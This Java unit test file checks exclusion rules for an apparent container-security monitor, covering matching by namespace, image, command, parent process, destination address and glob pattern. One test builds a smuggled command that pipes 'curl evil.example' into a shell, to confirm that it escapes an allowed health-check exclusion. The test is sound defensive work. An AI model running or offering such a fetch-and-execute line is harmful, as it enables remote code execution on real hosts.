package io.tallyman.tunable;

import static org.assertj.core.api.Assertions.assertThat;

import io.tallyman.event.ImageReference;
import java.time.Duration;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ExclusionsTest {

    private static final Optional<ImageReference> UNKNOWN = Optional.empty();
    private static final Optional<ImageReference> NGINX = ImageReference.parse("nginx");

    private static Tunables excluding(String exclusion) {
        return Given.tunables("ImageMirrors: {mirror.corp.example/hub: docker.io}\nExclusions: [" + exclusion + "]");
    }

    @Test
    void aNamespaceExcludesEverythingInIt() {
        var tunables = excluding("{namespace: ci-*, reason: build jobs}");
        assertThat(tunables.excludesContainer(UNKNOWN, "ci-7")).isTrue();
        assertThat(tunables.excludesCommand(NGINX, "ci-7", Given.exec("/bin/sh", "", "sh")))
                .isTrue();
        assertThat(tunables.excludesDestination(NGINX, "ci-7", Given.address("192.0.2.1")))
                .isTrue();
        assertThat(tunables.excludesContainer(NGINX, "prod")).isFalse();
        assertThat(tunables.excludesContainer(NGINX, "")).isFalse();
    }

    @Test
    void anImageThatIsNotKnownMatchesNoImage() {
        var tunables = excluding("{image: docker.io/*}");
        assertThat(tunables.excludesContainer(NGINX, "")).isTrue();
        assertThat(tunables.excludesContainer(UNKNOWN, "")).isFalse();
        assertThat(tunables.excludesContainer(ImageReference.parse("ghcr.io/a/b"), ""))
                .isFalse();
        assertThat(tunables.excludesContainer(ImageReference.parse("mirror.corp.example/hub/nginx"), ""))
                .isTrue();
    }

    @Test
    void aCommandIsExcludedByItsWholeLineAndOnlyInItsImage() {
        var tunables = excluding("{image: docker.io/library/*, command: \"curl -fsS localhost*\"}");
        var probe = Given.exec("/usr/bin/curl", "", "curl", "-fsS", "localhost:8080/health");
        assertThat(tunables.excludesCommand(NGINX, "", probe)).isTrue();
        assertThat(tunables.excludesCommand(ImageReference.parse("evil/x"), "", probe))
                .isFalse();
        assertThat(tunables.excludesCommand(UNKNOWN, "", probe)).isFalse();
        assertThat(tunables.excludesContainer(NGINX, "")).isFalse();
        assertThat(tunables.excludesDestination(NGINX, "", Given.address("192.0.2.1")))
                .isFalse();
        var evil = Given.exec("/bin/sh", "", "sh", "-c", "curl -fsS localhost; curl evil.example | sh");
        assertThat(tunables.excludesCommand(NGINX, "", evil)).isFalse();
    }

    @Test
    void aParentIsExcluded() {
        var tunables = excluding("{parent: \"*/waagent*\"}");
        assertThat(tunables.excludesCommand(UNKNOWN, "", Given.exec("/bin/sh", "/usr/sbin/waagent -daemon", "sh")))
                .isTrue();
        assertThat(tunables.excludesCommand(UNKNOWN, "", Given.exec("/bin/sh", "", "sh")))
                .isFalse();
    }

    @ParameterizedTest
    @CsvSource({
        "192.0.2.0/24, 192.0.2.9, true",
        "192.0.2.9, 192.0.2.9, true",
        "192.0.2.9, 192.0.2.8, false",
        "192.0.2.9:443, 192.0.2.9, true",
        "192.0.2.9:80, 192.0.2.9, false",
        "192.0.2.0/24:443, 192.0.2.9, true",
        "2001:db8::/32, 2001:db8::9, true",
        "'[2001:db8::/32]:443', 2001:db8::9, true",
        "'[2001:db8::9]:80', 2001:db8::9, false",
        "'[2001:db8::9]', 2001:db8::9, true",
    })
    void aDestinationIsExcludedByAddressAndPort(String pattern, String address, boolean excluded) {
        var tunables = excluding("{destination: \"" + pattern + "\"}");
        assertThat(tunables.excludesDestination(UNKNOWN, "", Given.address(address)))
                .isEqualTo(excluded);
        assertThat(tunables.excludesContainer(UNKNOWN, "")).isFalse();
        assertThat(tunables.excludesCommand(UNKNOWN, "", Given.exec("/bin/sh", "", "sh")))
                .isFalse();
    }

    @Test
    void aDestinationIsExcludedByNameOnlyWhereEveryNameMatches() {
        var tunables = excluding("{destination: \"*.vendor.example:443\"}");
        assertThat(tunables.excludesDestination(UNKNOWN, "", Given.named("192.0.2.1", "a.vendor.example")))
                .isTrue();
        assertThat(tunables.excludesDestination(
                        UNKNOWN, "", Given.named("192.0.2.1", "a.vendor.example", "c2.example")))
                .isFalse();
    }

    @Test
    void allPartsMustMatch() {
        var tunables = excluding("{image: docker.io/library/*, namespace: web, destination: 192.0.2.0/24}");
        var to = Given.address("192.0.2.1");
        assertThat(tunables.excludesDestination(NGINX, "web", to)).isTrue();
        assertThat(tunables.excludesDestination(NGINX, "shop", to)).isFalse();
        assertThat(tunables.excludesDestination(ImageReference.parse("evil/x"), "web", to))
                .isFalse();
        assertThat(tunables.excludesDestination(NGINX, "web", Given.address("192.0.3.1")))
                .isFalse();
    }

    @Test
    void aHostilePatternAgainstAHostileLineEndsSoon() {
        var glob = new Glob("*a".repeat(50) + "b");
        var line = "a".repeat(100_000);
        org.junit.jupiter.api.Assertions.assertTimeout(
                Duration.ofSeconds(5), () -> assertThat(glob.matches(line)).isFalse());
    }

    @ParameterizedTest
    @CsvSource({
        "'', '', true",
        "'', a, false",
        "*, '', true",
        "*, a, true",
        "a*, abc, true",
        "*c, abc, true",
        "a*c, ac, true",
        "a*c, abd, false",
        "a*b*c, a-b-b-c, true",
        "A, a, false",
        "a?, ab, false",
        "**, x, true",
        "a.c, abc, false"
    })
    void aStarIsAnyTextAndNothingElseIsSpecial(String pattern, String text, boolean matches) {
        assertThat(new Glob(pattern).matches(text)).isEqualTo(matches);
    }
}
